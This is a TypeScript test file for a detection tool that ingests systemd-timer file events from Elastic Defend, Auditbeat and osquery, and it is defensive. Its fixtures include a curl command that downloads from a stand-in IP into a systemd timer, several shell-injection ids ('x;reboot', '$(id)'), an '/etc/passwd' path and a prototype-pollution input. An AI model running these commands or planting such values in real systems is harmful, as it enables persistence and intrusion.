/** That the documents of other sensors become our events. The fixtures are written after the vendors' own lists of fields (see each format's file). */
import { hash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { unitOfPath } from '../../src/host/unit-of.ts';
import { readLine, type Imported } from '../../src/ingest/index.ts';
import { TickwardError } from '../../src/model/errors.ts';
import { pathBytes, type FileEvent } from '../../src/model/event.ts';
import { textOfBytes } from '../../src/model/text.ts';
import { alertDocument } from '../../src/output/document.ts';
import { compileEql } from '../../src/rule/evaluate.ts';
import { parseEql } from '../../src/rule/parse.ts';
import { arbitraryEvents } from '../helpers/arbitrary-event.ts';
import { alertOf } from '../helpers/alerts.ts';
import { fileEvent } from '../helpers/events.ts';

const surroundings = { unitOf: unitOfPath, digest: (line: string) => hash('sha256', line) };
const read = (line: string | object): Imported[] => readLine(typeof line === 'string' ? line : JSON.stringify(line), surroundings);

function fixture(name: string): string[] {
  return readFileSync(join(import.meta.dirname, '../fixtures/ingest', name), 'utf8').trimEnd().split('\n');
}

/** What matters of each event, line by line. */
function told(name: string): string[][] {
  return fixture(name).map((line) => read(line).map(({ event: { event, file, process: by, user, host } }) => [event.action, file.path, by?.executable ?? by?.name ?? '-', user?.name ?? user?.id ?? '-', host.name].join(' ')));
}

function matches(eql: string, document: object): boolean {
  return compileEql(parseEql(eql), eql)(document);
}

test('Elastic Defend: creation, rename, modification and deletion, with the process; neither an open nor a process event nor another system', () => {
  expect(told('elastic-defend.ndjson')).toEqual([
    ['creation /etc/systemd/system/beacon.timer /usr/bin/bash mallory web-7'],
    ['rename /home/mallory/.config/systemd/user/moved.timer /usr/bin/mv mallory web-7'],
    ['rename /usr/lib/systemd/system/man-db.timer /usr/bin/dpkg mallory web-7'],
    ['modification /etc/systemd/system/beacon.timer /usr/bin/bash mallory web-7'],
    ['deletion /etc/systemd/system/beacon.timer /usr/bin/bash mallory web-7'],
    [],
    ['creation /home/mallory/notes.txt /usr/bin/bash mallory web-7'],
    [],
    [],
  ]);
});

test('an event of Elastic Defend has its id, its time, its host and what else it says', () => {
  const [created, renamed] = fixture('elastic-defend.ndjson').map((line) => read(line)[0]?.event);
  expect(created).toEqual({
    '@timestamp': '2026-09-14T10:15:01.250Z',
    event: { id: 'NcPe3XfLk2sT8v1q++++++01', kind: 'event', category: ['file'], type: ['creation'], action: 'creation', dataset: 'tickward.file' },
    host: { name: 'web-7', hostname: 'web-7', id: '5d0f6c1e8a4b4f0f9b1f2b7c3d9e8a11', architecture: 'x86_64', os: { type: 'linux', kernel: '6.12.43+deb13-amd64 #1 SMP PREEMPT_DYNAMIC' } },
    file: { path: '/etc/systemd/system/beacon.timer', directory: '/etc/systemd/system', name: 'beacon.timer', extension: 'timer', hash: { sha256: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08' } },
    process: { pid: 4242, executable: '/usr/bin/bash', name: 'bash', command_line: '/bin/bash -c curl http://203.0.113.9/t > /etc/systemd/system/beacon.timer', group: { id: '1000' } },
    user: { id: '1000', name: 'mallory' },
    tickward: { attribution: 'inferred', attribution_note: 'Elastic Defend names it', ancestry: [], source: 'import', unit: 'beacon.timer', unit_type: 'timer', scope: 'system' },
  });
  expect(renamed).toMatchObject({ event: { type: ['change'] }, file: { Ext: { original: { path: '/tmp/x.tmp', name: 'x.tmp', extension: 'tmp' } } }, tickward: { scope: 'user' } });
});

test('rules see all that an ECS document says, and our words for what happened', () => {
  const [imported] = read(fixture('elastic-defend.ndjson')[3] ?? '');
  expect(matches('file where event.action == "modification" and file.Ext.entropy > 4 and process.Ext.ancestry == "MGE3ZDlhMGUtMTIz" and host.os.platform == "debian"', imported!.document)).toBe(true);
  const [moved] = read(fixture('auditbeat.ndjson')[4] ?? '');
  expect(matches('file where event.action == "rename" and process.entity_id != null and file.extension == "timer"', moved!.document)).toBe(true);
});

test('Auditbeat: each action of a document in its order; a name that was moved away is gone, the first scan is no change', () => {
  const units = '/etc/systemd/system';
  expect(told('auditbeat.ndjson')).toEqual([
    [`creation ${units}/plain.timer - - db-2`],
    [`creation ${units}/ebpf.timer tee root db-2`],
    [`creation ${units}/enriched.timer /usr/bin/tee root db-2`],
    [`deletion ${units}/left.timer - - db-2`],
    [`rename ${units}/arrived.timer tee root db-2`],
    [`modification ${units}/plain.timer - - db-2`],
    [`creation ${units}/short.timer - - db-2`, `deletion ${units}/short.timer - - db-2`],
    [`deletion ${units}/plain.timer - - db-2`],
    [],
    [`creation ${units}/six.timer - - old-1`],
  ]);
});

test('a sensor that names a program without the number of its process is not said to name none', () => {
  const line = JSON.stringify({ '@timestamp': '2026-09-14T11:15:00Z', event: { category: ['file'], type: ['creation'], action: 'creation' }, host: { name: 'h', os: { type: 'linux' } }, file: { path: '/etc/systemd/system/a.timer' }, process: { executable: '/tmp/\u001b[1m', name: 'x' } });
  const event = read(line)[0]?.event;
  expect(event?.process).toBeUndefined();
  expect(event?.tickward).toMatchObject({ attribution: 'none', attribution_note: 'the other sensor names /tmp/\\e[1m, and no number of its process' });
});

test('Auditbeat: owner, mode and times of the file, the container and the process', () => {
  const [plain, ebpf, enriched] = fixture('auditbeat.ndjson').map((line) => read(line)[0]?.event);
  expect(plain?.file).toMatchObject({ extension: 'timer', type: 'file', size: 54, mode: '0644', uid: '0', gid: '0', owner: 'root', group: 'root', inode: '11794491', mtime: '2026-09-14T11:00:01.531Z' });
  expect(plain?.tickward).toMatchObject({ attribution: 'none', attribution_note: 'Auditbeat names no process' });
  expect(ebpf).toMatchObject({ container: { id: 'b'.repeat(64) }, process: { pid: 7001, name: 'tee', user: { id: '0', name: 'root' }, group: { id: '0' } } });
  expect(enriched?.process).toMatchObject({ executable: '/usr/bin/tee', args: ['tee', '/etc/systemd/system/enriched.timer'], parent: { pid: 6999 }, start: '2026-09-14T10:59:58.100Z' });
});

test('osquery: file_events, process_file_events and our own table, in the event, the batch and the snapshot format', () => {
  const units = '/etc/systemd/system';
  expect(told('osquery.ndjson')).toEqual([
    [`creation ${units}/cron.timer - - edge-3`],
    [`modification ${units}/cron.timer - - edge-3`],
    [`deletion ${units}/a.timer - - edge-3`],
    [`rename ${units}/b.timer - - edge-3`],
    [`deletion ${units}/cron.timer - - edge-3`],
    [],
    [],
    [`rename ${units}/audit.timer /usr/bin/mv 0 edge-3`],
    [`creation ${units}/timers.target.wants/x.timer /usr/bin/ln 0 edge-3`],
    [`modification ${units}/audit.timer /usr/bin/vim.basic 0 edge-3`],
    [`deletion ${units}/audit.timer /usr/bin/rm 0 edge-3`],
    [`creation ${units}/one.timer - - edge-3`, `modification ${units}/two.timer - - edge-3`],
    [`creation ${units}/snap.timer - - edge-3`],
    ['creation /home/bob/.config/systemd/user/old.timer - - older.example'],
    [`creation ${units}/numbers.timer - - edge-3`],
    [],
    [`creation ${units}/own.timer /usr/bin/dash root edge-3`],
  ]);
});

test('osquery: the owner is the file\'s, and who did it only where the table says so', () => {
  const events = fixture('osquery.ndjson').map((line) => read(line)[0]?.event);
  expect(events[0]).toMatchObject({ '@timestamp': '2026-09-14T11:15:00.000Z', file: { extension: 'timer', uid: '0', mode: '0644', size: 0, inode: '1614297', mtime: '2026-09-14T11:14:59.000Z' }, tickward: { attribution: 'none', attribution_note: 'osquery names no process' } });
  expect(events[0]?.user).toBeUndefined();
  expect(events[7]).toMatchObject({ file: { Ext: { original: { path: '/tmp/.x', name: '.x' } } }, process: { pid: 5151, name: 'mv', parent: { pid: 5150 }, working_directory: '/root' }, tickward: { attribution: 'inferred', auid: '1000' } });
  expect(events[8]?.file).toMatchObject({ target_path: '/opt/x.timer', type: 'symlink' });
  expect(events[14]?.file).toMatchObject({ uid: '0', size: 12 });
  expect(events[16]).toMatchObject({ event: { id: '01a20fbd2ea000013ae46580' }, process: { command_line: 'sh -c evil' }, tickward: { attribution: 'exact', ancestry: [{ pid: 900, name: 'bash' }], auid: '1000', cgroup: '/user.slice', unit: 'own.timer', source: 'import' } });
});

test('osquery: of our own table what has the text of a symlink is one, what has none is not called a file', () => {
  const line = JSON.parse(fixture('osquery.ndjson')[16] ?? '') as { columns: object };
  const fileOf = (columns: object): FileEvent['file'] | undefined => read({ ...line, columns: { ...line.columns, ...columns } })[0]?.event.file;
  expect(fileOf({ symlink_target: '../own.timer', mode: '0777' })).toMatchObject({ type: 'symlink', target_path: '../own.timer', mode: '0777' });
  expect(fileOf({})?.type).toBeUndefined();
});

test("Tickward's own events come back as they were, alone, in an alert and in an alert as an output has it", () => {
  const changed = fileEvent({ path: '/home/a/.config/systemd/user/x.timer.d/o.conf', action: 'modification' });
  const own: FileEvent = { ...changed, event: { ...changed.event, type: ['change'] }, tickward: { ...changed.tickward, auid: '1000', cgroup: '/a', unit: 'x.timer', unit_type: 'drop-in', scope: 'user', ancestry: [{ pid: 1, name: 'init' }] } };
  const imported = { ...own, tickward: { ...own.tickward, source: 'import' } };
  expect(read(own).map(({ event }) => event)).toEqual([imported]);
  expect(read({ id: 'a', '@timestamp': own['@timestamp'], status: 'open', rule: { name: 'r' }, event: own }).map(({ event }) => event)).toEqual([imported]);
  expect(read(alertDocument(alertOf({ event: own }))).map(({ event }) => event)).toEqual([imported]);
});

/** What becomes of an event: how it is told, or the code of the error. */
function outcome(event: object): string {
  try {
    return read(event).map((each) => `${each.event.event.action} ${each.event.tickward.source}`).join();
  } catch (error) {
    return error instanceof TickwardError ? error.code : String(error);
  }
}

test('whatever our own events hold, they are read back or refused in words', () => {
  fc.assert(
    fc.property(arbitraryEvents, (events) => {
      for (const event of events) {
        expect(outcome(event)).toEqual(expect.stringMatching(`^(BAD_INPUT|${event.event.action} import)$`));
      }
    }),
    { numRuns: 100 },
  );
});

const DEFEND = { '@timestamp': '2026-09-14T10:15:01Z', event: { id: 'x1', category: ['file'], action: 'creation', type: ['creation'], module: 'endpoint' }, host: { name: 'h', os: { type: 'linux' } }, file: { path: '/etc/systemd/system/a.timer' } };

test('any other sensor that writes ECS counts by its event.type, nested or dotted, and as exported from Elasticsearch', () => {
  const dotted = { '@timestamp': 1_789_380_901_000, 'event.category': 'file', 'event.type': 'change', 'agent.type': 'filebeat', 'host.name': 'h', 'file.path': '/etc/systemd/system/a.timer' };
  expect(read(dotted)[0]?.event).toMatchObject({ '@timestamp': '2026-09-14T10:15:01.000Z', event: { action: 'modification' }, file: { name: 'a.timer', extension: 'timer' }, tickward: { attribution_note: 'filebeat names no process' } });
  expect(read({ _index: '.ds-logs-endpoint', _id: 'q', _source: DEFEND })[0]?.event.event.id).toBe('x1');
});

test('who is named without a number is kept, and has the number where the process of that name has one', () => {
  const of = (document: object): [FileEvent['user'], NonNullable<FileEvent['process']>['user']] => {
    const event = read({ ...DEFEND, ...document })[0]?.event;
    return [event?.user, event?.process?.user];
  };
  const pid = 4242;
  expect(of({ user: { name: 'mallory' } })).toEqual([{ name: 'mallory' }, undefined]);
  expect(of({ process: { pid, user: { name: 'mallory' } } })).toEqual([{ name: 'mallory' }, { name: 'mallory' }]);
  expect(of({ user: { name: 'root' }, process: { pid, user: { id: 0, name: 'root' } } })).toEqual([{ id: '0', name: 'root' }, { id: '0', name: 'root' }]);
  expect(of({ user: { name: 'mallory' }, process: { pid, user: { id: 0, name: 'root' } } })).toEqual([{ name: 'mallory' }, { id: '0', name: 'root' }]);
  expect(of({ user: {} })).toEqual([undefined, undefined]);
  const own = JSON.parse(fixture('osquery.ndjson')[16] ?? '') as { columns: object };
  expect(read({ ...own, columns: { ...own.columns, uid: '', username: 'mallory' } })[0]?.event.user).toEqual({ name: 'mallory' });
});

test('an id is the sensor\'s where it can be pasted into a shell, else the digest of the line, and always the same', () => {
  const ids = (event: object): (string | undefined)[] => [1, 2].map(() => read({ ...DEFEND, event: { ...DEFEND.event, ...event } })[0]?.event.event.id);
  expect(ids({ id: 'MYfZFpbNKturKgFp+++++AlT' })).toEqual(['MYfZFpbNKturKgFp+++++AlT', 'MYfZFpbNKturKgFp+++++AlT']);
  for (const id of [undefined, 'x;reboot', '-rf', '$(id)', 'a b', 'x'.repeat(200)]) {
    const [first, second] = ids({ id });
    expect(first).toMatch(/^[0-9a-f]{64}$/);
    expect(second).toBe(first);
  }
  const [, two] = read(fixture('auditbeat.ndjson')[6] ?? '');
  expect(two?.event.event.id).toMatch(/^[0-9a-f]{64}-1$/);
});

test('a name that is no UTF-8 keeps its bytes', () => {
  const line = Buffer.from(JSON.stringify(DEFEND).replace('a.timer', 'u\xff\xfe.timer'), 'latin1');
  const [imported] = read(textOfBytes(line));
  expect(imported?.event.file).toMatchObject({ path: '/etc/systemd/system/u\ufffd\ufffd.timer', name: 'u\ufffd\ufffd.timer', extension: 'timer' });
  expect(pathBytes(imported!.event).toString('latin1')).toBe('/etc/systemd/system/u\xff\xfe.timer');
});

const deep = (count: number): string => `${'['.repeat(count)}"x"${']'.repeat(count)}`;
const path = (value: unknown): string => JSON.stringify({ ...DEFEND, file: { path: value } });

test.each([
  ['{broken', /no JSON: /],
  ['[1]', /no JSON object/],
  ['null', /no JSON object/],
  ['"text"', /no JSON object/],
  ['{}', /no file event of a sensor that is known/],
  ['{"event":{"category":{"a":1}}}', /event\.category should be a list of texts, and is an object/],
  [JSON.stringify({ ...DEFEND, '@timestamp': undefined }), /it has no @timestamp/],
  [JSON.stringify({ ...DEFEND, '@timestamp': 'yesterday' }), /@timestamp should be a date .* is the text "yesterday"/],
  [JSON.stringify({ ...DEFEND, '@timestamp': 1e20 }), /@timestamp should be a date .* is the number/],
  [JSON.stringify({ ...DEFEND, host: undefined }), /it has no host\.name/],
  [JSON.stringify({ ...DEFEND, process: { pid: 'abc' } }), /process\.pid should be a whole number/],
  [JSON.stringify({ ...DEFEND, process: { pid: -1 } }), /process\.pid should be a whole number/],
  [JSON.stringify({ ...DEFEND, process: { pid: 1, executable: ['/a', '/b'] } }), /process\.executable should be text, and is a list of 2/],
  [path(undefined), /it has no file\.path/],
  [path({ a: 1 }), /file\.path should be text, and is an object/],
  [path('a.timer'), /no absolute path/],
  [path('C:\\a.timer'), /no absolute path/],
  [path('/'), /no absolute path/],
  [path('///'), /no absolute path/],
  [path('/a\0b'), /NUL/],
  [path(`/${'x'.repeat(100_000)}`), /longer than 65536/],
  [path('/a').replace('"/a"', deep(20)), /the path "x" is no absolute path/],
  [JSON.stringify({ hostIdentifier: 'h', unixTime: 1, columns: [1] }), /columns holds no rows of osquery/],
  [JSON.stringify({ hostIdentifier: 'h', unixTime: 1, diffResults: { added: [1] } }), /diffResults\.added holds no rows/],
  [JSON.stringify({ hostIdentifier: 'h', columns: { action: 'CREATED', target_path: '/a' } }), /neither a column time nor unixTime/],
  [JSON.stringify({ ...fileEvent(), tickward: { attribution: 'certain' } }), /attribution "certain" is none of Tickward's/],
  [JSON.stringify({ ...fileEvent(), tickward: { ...fileEvent().tickward, path_bytes: Buffer.from('/etc/passwd').toString('base64') } }), /path_bytes is another path/],
  [JSON.stringify({ ...fileEvent(), tickward: { ...fileEvent().tickward, ancestry: [{ pid: 'x' }] } }), /ancestry has an entry/],
])('%.60s is refused in words', (line, message) => {
  expect(() => read(line)).toThrow(message);
});

test('a document that is about something else, or says less than others, is no error', () => {
  expect(read({ event: { category: ['process'], action: 'exec' }, process: { pid: 1 } })).toEqual([]);
  expect(read({ hostIdentifier: 'h', unixTime: 1, diffResults: { added: '', removed: [{ a: '1' }] } })).toEqual([]);
  expect(read({ hostIdentifier: 'h', unixTime: 1, columns: { name: 'x' } })).toEqual([]);
  expect(read(`{"__proto__":{"polluted":1},${JSON.stringify(DEFEND).slice(1)}`)).toHaveLength(1);
  expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false);
});
